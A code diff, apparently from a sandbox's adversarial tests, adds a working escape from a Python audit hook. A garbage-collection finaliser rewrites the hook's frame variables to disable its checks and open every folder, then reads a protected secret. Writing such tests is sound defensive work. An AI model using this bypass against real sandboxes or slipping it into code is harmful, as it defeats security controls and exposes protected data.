@@ -53,3 +53,54 @@ def talk(host, port):
         return connection.recv(100)
     finally:
         connection.close()
+
+
+def rewrite_hook(frame):
+    """Rewrites what a running hook's frames hold, by the names its source gives them (the attacker
+    has read the hook): what it covers, what decides, the allowed folders. True where it found one."""
+    found = False
+    while frame is not None:
+        names = frame.f_locals
+        if "covered" in names:
+            names["covered"] = frozenset()
+            found = True
+        if "decide" in names:
+            names["decide"] = lambda event, args: None
+            found = True
+        if "folders" in names:
+            names["folders"] = ((b"/", b"/"),)
+            found = True
+        frame = frame.f_back
+    return found
+
+
+def read_while_collecting():
+    """Reads the secret while every allocation sets off a collection, whose finaliser looks for the
+    hook's running frame (from the finaliser's caller up) and rewrites it: up to 200 tries."""
+    import gc
+
+    rewritten = []
+
+    class Trigger:
+        def __del__(self):
+            if not rewritten:
+                if rewrite_hook(sys._getframe(1)):
+                    rewritten.append(True)
+                else:
+                    arm()  # not inside the hook: wait for the next collection
+
+    def arm():
+        trigger = Trigger()
+        trigger.self = trigger
+
+    gc.set_threshold(1)
+    try:
+        for _ in range(200):
+            arm()
+            try:
+                return read(SECRET)
+            except PermissionError:
+                continue
+        return read(SECRET)
+    finally:
+        gc.set_threshold(700)
